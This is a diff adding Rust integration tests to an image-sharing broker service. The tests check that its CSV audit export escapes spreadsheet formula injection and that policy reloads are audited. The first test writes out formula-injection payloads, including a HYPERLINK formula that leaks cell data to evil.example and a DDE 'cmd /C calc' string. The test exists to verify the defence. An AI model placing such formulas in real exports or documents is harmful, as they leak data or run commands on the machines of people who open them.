@@ -15,7 +15,7 @@ use uuid::Uuid;
 
 use crate::fake_glance::Fault;
 use crate::faults::{approve_one, setup, until_state};
-use crate::helpers::{PROJ_B, TestApp, problem, request_body, serve_args, spawn_app};
+use crate::helpers::{IMAGE, PROJ_B, TestApp, problem, request_body, serve_args, spawn_app};
 use crate::openstack::{Rig, broker_cloud, drain, env, until_share_state, worker_config};
 
 const BIN: &str = env!("CARGO_BIN_EXE_glance-share-broker");
@@ -1123,4 +1123,149 @@ async fn verify_flags_an_event_left_unsealed_too_long() {
     assert_eq!(report["ok"], true, "{report}");
     assert_eq!(report["head"]["chain_pos"], SETUP + 2);
     assert_eq!(report["unsealed_events"], 0);
+}
+
+#[tokio::test]
+async fn the_csv_export_neutralises_cells_a_spreadsheet_would_read_as_formulas() {
+    let app = spawn_app().await;
+    let reason = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click here")"#;
+    let mut body = request_body(&Uuid::new_v4().to_string(), &[PROJ_B]);
+    body["reason"] = json!(reason);
+    post_ok(&app, &app.requester, "/v1/share-requests", body).await;
+    // A refused call: an approver may not file requests; the refusal records its User-Agent.
+    // (HTTP trims a leading tab from a header: the unit test of `neutralised` covers tab and CR.)
+    let agents = [
+        r#"=HYPERLINK("http://evil.example","x")"#,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd",
+        "-2+3",
+    ];
+    for agent in agents {
+        let refused = app
+            .post(&app.approver, "/v1/share-requests", &request_body(IMAGE, &[PROJ_B]))
+            .header("user-agent", agent)
+            .send()
+            .await
+            .unwrap();
+        problem(refused, StatusCode::FORBIDDEN).await;
+    }
+
+    let (_, csv) = export(&app, "?format=csv", "*/*").await;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let filed = rows.iter().find(|r| &r[column("action")] == "create" && &r[column("outcome")] == "success");
+    assert_eq!(&filed.unwrap()[column("reason")], format!("'{reason}"));
+    let refused: Vec<&str> = rows
+        .iter()
+        .filter(|r| &r[column("outcome")] == "failure")
+        .map(|r| &r[column("initiator_user_agent")])
+        .collect();
+    let expected: Vec<String> = agents.iter().map(|a| format!("'{a}")).collect();
+    assert_eq!(refused, expected);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    // The other formats carry the text as it was written.
+    let (_, ndjson) = export(&app, "?format=ndjson&outcome=failure", "*/*").await;
+    let first: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
+    assert_eq!(first["initiator"]["user_agent"], agents[0]);
+}
+
+/// The `update/policy` events so far: (outcome, reason, details), oldest first.
+async fn policy_events(app: &TestApp) -> Vec<(String, Option<String>, Value)> {
+    sqlx::query_as("select outcome, reason, details from audit_events where action = 'update/policy' order by seq")
+        .fetch_all(&app.pool)
+        .await
+        .unwrap()
+}
+
+/// Waits until there are `count` `update/policy` events.
+async fn until_policy_events(app: &TestApp, count: usize) -> Vec<(String, Option<String>, Value)> {
+    for _ in 0..300 {
+        let events = policy_events(app).await;
+        if events.len() >= count {
+            return events;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    panic!("no {count} policy events: {:?}", policy_events(app).await);
+}
+
+fn sha256_hex(text: &str) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(text.as_bytes()))
+}
+
+#[tokio::test]
+async fn each_policy_load_and_reload_is_audited_with_its_digest_and_rules_refusals_too() {
+    use nix::sys::signal::{Signal, kill};
+    use nix::unistd::Pid;
+
+    let app = spawn_app().await;
+    let dir = std::env::temp_dir().join(format!("gsb-policy-audit-{}", Uuid::new_v4()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("policy.toml");
+    let first = "[[rules]]\nname = \"first\"\ndecision = \"approve\"\n\n[[rules]]\nname = \"fallback\"\ndecision = \"require_approval\"";
+    std::fs::write(&path, first).unwrap();
+    let mut worker = Command::new(BIN)
+        .args(["worker", "--idle-poll-ms", "100", "--instance", "policy-worker"])
+        .env("DATABASE_URL", &app.database_url)
+        .env("OS_CLOUD", "admin")
+        .env("OS_CLIENT_CONFIG_FILE", env("OS_CLIENT_CONFIG_FILE"))
+        .env("GSB_POLICY_FILE", &path)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let hang_up = || kill(Pid::from_raw(worker.id() as i32), Signal::SIGHUP).unwrap();
+    until_policy_events(&app, 1).await;
+
+    let bad = "[[rules]]\nname = \"second\"\ndecision = \"deny\"\napprovals = 2";
+    std::fs::write(&path, bad).unwrap();
+    hang_up();
+    until_policy_events(&app, 2).await;
+    let good = "[[rules]]\nname = \"second\"\ndecision = \"deny\"";
+    std::fs::write(&path, good).unwrap();
+    hang_up();
+    let events = until_policy_events(&app, 3).await;
+    kill(Pid::from_raw(worker.id() as i32), Signal::SIGTERM).unwrap();
+    assert!(worker.wait().unwrap().success());
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    let path = path.display().to_string();
+    assert_eq!(
+        events[0],
+        (
+            "success".to_owned(),
+            None,
+            json!({"trigger": "start", "path": path, "digest": sha256_hex(first), "rules": ["first", "fallback"]})
+        )
+    );
+    let (outcome, reason, details) = &events[1];
+    assert_eq!(outcome, "failure");
+    assert!(reason.as_deref().unwrap().contains("rules[0].approvals"), "{reason:?}");
+    assert_eq!(details, &json!({"trigger": "reload", "path": path, "digest": sha256_hex(bad)}));
+    assert_eq!(
+        events[2],
+        (
+            "success".to_owned(),
+            None,
+            json!({"trigger": "reload", "path": path, "digest": sha256_hex(good), "rules": ["second"]})
+        )
+    );
+    let (initiator, observer): (Value, String) =
+        sqlx::query_as("select initiator, observer from audit_events where action = 'update/policy' limit 1")
+            .fetch_one(&app.pool)
+            .await
+            .unwrap();
+    assert_eq!(initiator, json!({"kind": "service", "name": "policy-file"}));
+    assert_eq!(observer, "policy-worker");
+    assert_chain_holds(&app).await;
 }
